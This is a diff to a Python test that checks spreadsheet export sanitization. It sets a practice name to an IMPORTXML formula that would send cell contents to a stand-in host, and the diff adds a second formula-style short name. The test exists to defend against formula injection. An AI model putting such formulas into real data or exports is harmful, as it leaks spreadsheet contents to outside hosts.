@@ -78,6 +78,7 @@ def test_nothing_exported_below_k(framework: Framework) -> None:
 def test_hostile_practice_names_are_neutralized_in_the_export(framework: Framework) -> None:
     data = framework.model_dump()
     data["practices"][0]["name"] = '=IMPORTXML(CONCAT("http://x/",A1))'
+    data["practices"][0]["short_name"] = "=IMPORTXML"
     hostile = Framework.model_validate(data)
     room = people(hostile, 3)
     summary = summarize(hostile, 3, rows_for([practice_results(hostile, p) for p in room]))
